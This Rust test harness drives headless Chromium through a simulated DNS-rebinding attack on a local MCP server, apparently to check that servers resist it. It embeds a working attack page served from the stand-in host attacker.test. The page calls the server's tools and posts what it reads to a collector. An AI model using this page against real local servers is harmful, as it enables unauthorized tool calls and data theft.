//! Headless Chromium (Debian's package) running a DNS-rebinding attack against an MCP server on 127.0.0.1.
//!
//! In a real attack, a page is served from `http://attacker.test:P/` by the attacker's machine; then the
//! attacker's DNS re-answers `attacker.test` with `127.0.0.1`, so the page's later requests to
//! `http://attacker.test:P/mcp` reach the victim's port P on loopback while the browser still treats them as
//! same-origin (it may read the answers). Chromium resolves `attacker.test` to 127.0.0.1 through
//! `--host-resolver-rules`; because it caches that answer, the switch of the DNS answer is played by
//! [`RebindingFront`]: on port P it serves the attacker's page for `GET /` (and closes that connection) and
//! hands every other connection, byte for byte, to the victim's port — exactly the bytes the victim would get
//! after a rebinding (`Host: attacker.test:P`, `Origin: http://attacker.test:P`).
//!
//! The page reports what it managed to read to a [`Collector`] on another loopback port.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, mpsc};
use std::time::Duration;

use anyhow::{Context, anyhow, bail};

use crate::mcp::Transport;
use crate::process::{Proc, tail};

/// The hostname the attacker's page is served from (mapped to 127.0.0.1 for Chromium).
pub const ATTACKER_HOST: &str = "attacker.test";

/// Debian's Chromium (installed by `make setup`).
pub fn chromium_bin() -> PathBuf {
    for p in ["/usr/bin/chromium", "/usr/bin/chromium-browser"] {
        let path = PathBuf::from(p);
        if path.exists() {
            return path;
        }
    }
    panic!("chromium not found in /usr/bin: run `make setup` (installs Debian's chromium)");
}

/// A headless Chromium process with a fresh profile; killed on drop.
pub struct Chromium {
    pub proc: Proc,
    _profile: tempfile::TempDir,
}

impl Chromium {
    /// Opens `url` in headless Chromium with `attacker.test` resolving to 127.0.0.1.
    pub fn open(url: &str) -> anyhow::Result<Chromium> {
        let profile = tempfile::tempdir()?;
        let mut cmd = Command::new(chromium_bin());
        cmd.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-dev-shm-usage",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        // Every `*.test` name (the attacker's, and the pages of the CORS tests) is 127.0.0.1.
        .arg("--host-resolver-rules=MAP *.test 127.0.0.1")
        .arg(url);
        let proc = Proc::spawn("chromium", cmd)?;
        Ok(Chromium {
            proc,
            _profile: profile,
        })
    }
}

/// Stops a listener thread: sets the flag, then wakes `accept` with a connection.
struct Stopper {
    stop: Arc<AtomicBool>,
    addr: SocketAddr,
}

impl Drop for Stopper {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect_timeout(&self.addr, Duration::from_millis(200));
    }
}

fn serve(listener: TcpListener, stop: Arc<AtomicBool>, handle: impl Fn(TcpStream) + Send + Sync + 'static) {
    let handle = Arc::new(handle);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            if stop.load(Ordering::SeqCst) {
                break;
            }
            let Ok(conn) = conn else { continue };
            let handle = handle.clone();
            std::thread::spawn(move || handle(conn));
        }
    });
}

/// Reads one request head (and up to `Content-Length` of body) from `conn`; returns (head, body, extra).
fn read_request(conn: &mut TcpStream) -> anyhow::Result<(String, Vec<u8>)> {
    conn.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    let head_end = loop {
        if let Some(pos) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break pos + 4;
        }
        let n = conn.read(&mut chunk)?;
        if n == 0 {
            bail!("connection closed before a request head");
        }
        buf.extend_from_slice(&chunk[..n]);
        if buf.len() > 64 * 1024 {
            bail!("request head too large");
        }
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
    let len: usize = head
        .lines()
        .filter_map(|l| l.split_once(':'))
        .find(|(n, _)| n.trim().eq_ignore_ascii_case("content-length"))
        .and_then(|(_, v)| v.trim().parse().ok())
        .unwrap_or(0);
    let mut body = buf[head_end..].to_vec();
    while body.len() < len {
        let n = conn.read(&mut chunk)?;
        if n == 0 {
            break;
        }
        body.extend_from_slice(&chunk[..n]);
    }
    Ok((head, body))
}

/// Collects the JSON reports that attack pages send (`POST /report`, any origin, `no-cors`).
pub struct Collector {
    pub port: u16,
    reports: mpsc::Receiver<String>,
    _stopper: Stopper,
}

impl Collector {
    pub fn start() -> anyhow::Result<Collector> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let addr = listener.local_addr()?;
        let (tx, rx) = mpsc::channel();
        let stop = Arc::new(AtomicBool::new(false));
        let tx = std::sync::Mutex::new(tx);
        serve(listener, stop.clone(), move |mut conn| {
            if let Ok((head, body)) = read_request(&mut conn) {
                if head.starts_with("POST /report")
                    && let Ok(tx) = tx.lock()
                {
                    let _ = tx.send(String::from_utf8_lossy(&body).into_owned());
                }
                let _ = conn.write_all(
                    b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
                );
            }
        });
        Ok(Collector {
            port: addr.port(),
            reports: rx,
            _stopper: Stopper { stop, addr },
        })
    }

    /// `http://127.0.0.1:PORT/report`.
    pub fn url(&self) -> String {
        format!("http://127.0.0.1:{}/report", self.port)
    }

    /// Waits for the next report, parsed as JSON.
    pub fn wait(&self, timeout: Duration) -> anyhow::Result<serde_json::Value> {
        let text = self
            .reports
            .recv_timeout(timeout)
            .map_err(|_| anyhow!("no report from the page within {timeout:?}"))?;
        serde_json::from_str(&text).with_context(|| format!("the page's report is not JSON: {text}"))
    }
}

/// The attacker's port after the rebinding: serves `page` for `GET /`, and passes every other connection
/// through to the victim — `routes` maps a path prefix to a victim address (first match wins; a connection is
/// routed by its first request).
pub struct RebindingFront {
    pub port: u16,
    _stopper: Stopper,
}

impl RebindingFront {
    pub fn start(page: String, routes: Vec<(String, SocketAddr)>) -> anyhow::Result<RebindingFront> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let addr = listener.local_addr()?;
        let stop = Arc::new(AtomicBool::new(false));
        let page = Arc::new(page);
        let routes = Arc::new(routes);
        serve(listener, stop.clone(), move |conn| {
            let _ = front_connection(conn, &page, &routes);
        });
        Ok(RebindingFront {
            port: addr.port(),
            _stopper: Stopper { stop, addr },
        })
    }

    /// `http://attacker.test:PORT/`.
    pub fn url(&self) -> String {
        format!("http://{ATTACKER_HOST}:{}/", self.port)
    }
}

fn front_connection(mut conn: TcpStream, page: &str, routes: &[(String, SocketAddr)]) -> anyhow::Result<()> {
    // Peek at the request line without consuming it: the bytes go to the victim unchanged.
    conn.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut peek = [0u8; 1024];
    let mut n = 0;
    for _ in 0..100 {
        n = conn.peek(&mut peek)?;
        if n == 0 || peek[..n].contains(&b'\n') {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let line = String::from_utf8_lossy(&peek[..n]).into_owned();
    let path = line.split(' ').nth(1).unwrap_or("").to_string();
    if path == "/" || path.starts_with("/favicon") || path.starts_with("/?") {
        let _ = read_request(&mut conn)?;
        let (status, body) = if path.starts_with("/favicon") {
            ("404 Not Found", "")
        } else {
            ("200 OK", page)
        };
        let resp = format!(
            "HTTP/1.1 {status}\r\nContent-Type: text/html; charset=utf-8\r\nCache-Control: no-store\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        conn.write_all(resp.as_bytes())?;
        let _ = conn.shutdown(Shutdown::Write);
        return Ok(());
    }
    let Some((_, victim)) = routes
        .iter()
        .find(|(prefix, _)| path.starts_with(prefix.as_str()))
    else {
        conn.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")?;
        return Ok(());
    };
    let upstream = TcpStream::connect_timeout(victim, Duration::from_secs(5))?;
    conn.set_read_timeout(None)?;
    pipe(conn, upstream)
}

/// Copies bytes both ways until either side closes.
fn pipe(a: TcpStream, b: TcpStream) -> anyhow::Result<()> {
    let (mut a_read, mut b_write) = (a.try_clone()?, b.try_clone()?);
    let forward = std::thread::spawn(move || {
        let _ = std::io::copy(&mut a_read, &mut b_write);
        let _ = b_write.shutdown(Shutdown::Write);
    });
    let (mut b_read, mut a_write) = (b, a);
    let _ = std::io::copy(&mut b_read, &mut a_write);
    let _ = a_write.shutdown(Shutdown::Both);
    let _ = forward.join();
    Ok(())
}

/// The attack page: over Streamable HTTP (`fetch` POSTs to `/mcp`: initialize, tools/list, tools/call) and
/// over the legacy SSE transport (`EventSource('/sse')`, then POSTs to the announced endpoint), reading
/// whatever the victim answers; then it reports to `collector_url`.
pub fn attack_page(collector_url: &str) -> String {
    ATTACK_PAGE.replace("__COLLECTOR__", collector_url)
}

const ATTACK_PAGE: &str = r#"<!doctype html>
<html><head><title>attack</title></head><body><pre id="out">running</pre>
<script>
const COLLECTOR = "__COLLECTOR__";
const H = { "content-type": "application/json", "accept": "application/json, text/event-stream" };
const INIT = { jsonrpc: "2.0", id: 1, method: "initialize",
  params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "attacker", version: "1" } } };

function messages(text) {
  // A Streamable HTTP answer is JSON or an SSE stream of JSON messages.
  try { return [JSON.parse(text)]; } catch (_) {}
  return text.split("\n").filter(l => l.startsWith("data:")).map(l => { try { return JSON.parse(l.slice(5)); } catch (_) { return null; } }).filter(Boolean);
}

async function viaFetch() {
  const r = {};
  try {
    const init = await fetch("/mcp", { method: "POST", headers: H, body: JSON.stringify(INIT) });
    r.initialize_status = init.status;
    const text = await init.text();
    r.initialize_body = text.slice(0, 2000);
    if (init.status !== 200) return r;
    const h = { ...H, "mcp-protocol-version": "2025-06-18" };
    const sid = init.headers.get("mcp-session-id");
    if (sid) h["mcp-session-id"] = sid;
    await fetch("/mcp", { method: "POST", headers: h, body: JSON.stringify({ jsonrpc: "2.0", method: "notifications/initialized" }) });
    const list = await fetch("/mcp", { method: "POST", headers: h, body: JSON.stringify({ jsonrpc: "2.0", id: 2, method: "tools/list" }) });
    r.tools_status = list.status;
    const lm = messages(await list.text()).find(m => m.id === 2);
    r.tools = lm && lm.result ? lm.result.tools.map(t => t.name).sort() : null;
    const call = await fetch("/mcp", { method: "POST", headers: h, body: JSON.stringify({ jsonrpc: "2.0", id: 3, method: "tools/call", params: { name: "echo", arguments: { text: "stolen" } } }) });
    const cm = messages(await call.text()).find(m => m.id === 3);
    r.echo = cm && cm.result ? cm.result.content.map(c => c.text).join("") : null;
  } catch (e) { r.error = String(e); }
  return r;
}

function viaEventSource() {
  return new Promise((resolve) => {
    const r = { events: 0 };
    let endpoint = null;
    const es = new EventSource("/sse");
    const done = () => { es.close(); clearTimeout(timer); resolve(r); };
    const timer = setTimeout(() => { r.timeout = true; done(); }, 8000);
    const post = (msg) => fetch(endpoint, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(msg) });
    es.addEventListener("endpoint", async (ev) => {
      r.events++;
      r.endpoint = ev.data;
      endpoint = new URL(ev.data, location.href).href;
      try { r.post_status = (await post(INIT)).status; } catch (e) { r.error = String(e); done(); }
    });
    es.addEventListener("message", async (ev) => {
      r.events++;
      const m = JSON.parse(ev.data);
      if (m.id === 1) {
        await post({ jsonrpc: "2.0", method: "notifications/initialized" });
        await post({ jsonrpc: "2.0", id: 2, method: "tools/list" });
      } else if (m.id === 2) {
        r.tools = m.result.tools.map(t => t.name).sort();
        done();
      }
    });
    es.onerror = () => { r.error = "EventSource error, readyState " + es.readyState; done(); };
  });
}

(async () => {
  const report = { page_origin: location.origin };
  // One transport per page load: the browser reuses connections across paths of one origin.
  if (new URLSearchParams(location.search).get("transport") === "sse") report.eventsource = await viaEventSource();
  else report.fetch = await viaFetch();
  document.getElementById("out").textContent = JSON.stringify(report);
  await fetch(COLLECTOR, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify(report) });
})();
</script></body></html>
"#;

/// Runs the attack over `transport` (`fetch` for Streamable HTTP, `EventSource` for SSE): serves the page on
/// a rebinding front whose other connections go to `victim`, opens it in Chromium and returns the page's
/// report.
pub fn run_attack(
    victim: SocketAddr,
    transport: Transport,
    timeout: Duration,
) -> anyhow::Result<serde_json::Value> {
    let collector = Collector::start()?;
    let front = RebindingFront::start(attack_page(&collector.url()), vec![("/".to_string(), victim)])?;
    let mut chromium = Chromium::open(&format!("{}?transport={}", front.url(), transport.arg()))?;
    match collector.wait(timeout) {
        Ok(report) => Ok(report),
        Err(e) => {
            let _ = chromium.proc.ensure_running();
            bail!("{e}; chromium log:\n{}", tail(&chromium.proc.logs(), 30))
        }
    }
}

/// Serves `page` as `http://HOST:PORT/` for any `HOST` that Chromium maps to 127.0.0.1 (`*.test`); nothing else.
pub fn page_server(page: String) -> anyhow::Result<RebindingFront> {
    RebindingFront::start(page, Vec::new())
}

/// Opens `url` in Chromium and returns the report its page sends to `collector`.
pub fn open_and_report(
    url: &str,
    collector: &Collector,
    timeout: Duration,
) -> anyhow::Result<serde_json::Value> {
    let mut chromium = Chromium::open(url)?;
    match collector.wait(timeout) {
        Ok(report) => Ok(report),
        Err(e) => {
            let _ = chromium.proc.ensure_running();
            bail!("{e}; chromium log:\n{}", tail(&chromium.proc.logs(), 30))
        }
    }
}

/// A web-based MCP client: from its own origin it calls the MCP server at `?server=URL` (cross-origin, so the
/// browser sends a CORS preflight before each request that is not "simple") with `fetch` — initialize,
/// `notifications/initialized`, then `tools/call` of `echo` with MCP 2026-07-28's `Mcp-Method`/`Mcp-Name`
/// headers — reading the session id from the response, then reports to `collector_url`.
pub fn cors_client_page(collector_url: &str) -> String {
    CORS_CLIENT_PAGE.replace("__COLLECTOR__", collector_url)
}

const CORS_CLIENT_PAGE: &str = r#"<!doctype html>
<html><head><title>web client</title></head><body><pre id="out">running</pre>
<script>
const COLLECTOR = "__COLLECTOR__";
const SERVER = new URLSearchParams(location.search).get("server");
const H = { "content-type": "application/json", "accept": "application/json, text/event-stream" };
function messages(text) {
  try { return [JSON.parse(text)]; } catch (_) {}
  return text.split("\n").filter(l => l.startsWith("data:")).map(l => { try { return JSON.parse(l.slice(5)); } catch (_) { return null; } }).filter(Boolean);
}
(async () => {
  const r = { page_origin: location.origin };
  try {
    const init = await fetch(SERVER, { method: "POST", headers: H, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize",
      params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "web-client", version: "1" } } }) });
    r.initialize_status = init.status;
    r.session = init.headers.get("mcp-session-id");
    await init.text();
    const h = { ...H, "mcp-protocol-version": "2025-06-18" };
    if (r.session) h["mcp-session-id"] = r.session;
    await fetch(SERVER, { method: "POST", headers: h, body: JSON.stringify({ jsonrpc: "2.0", method: "notifications/initialized" }) });
    const call = await fetch(SERVER, { method: "POST", headers: { ...h, "mcp-method": "tools/call", "mcp-name": "echo" },
      body: JSON.stringify({ jsonrpc: "2.0", id: 2, method: "tools/call", params: { name: "echo", arguments: { text: "from the page" } } }) });
    r.call_status = call.status;
    const m = messages(await call.text()).find(m => m.id === 2);
    r.echo = m && m.result ? m.result.content.map(c => c.text).join("") : null;
  } catch (e) { r.error = String(e); }
  document.getElementById("out").textContent = JSON.stringify(r);
  await fetch(COLLECTOR, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify(r) });
})();
</script></body></html>
"#;
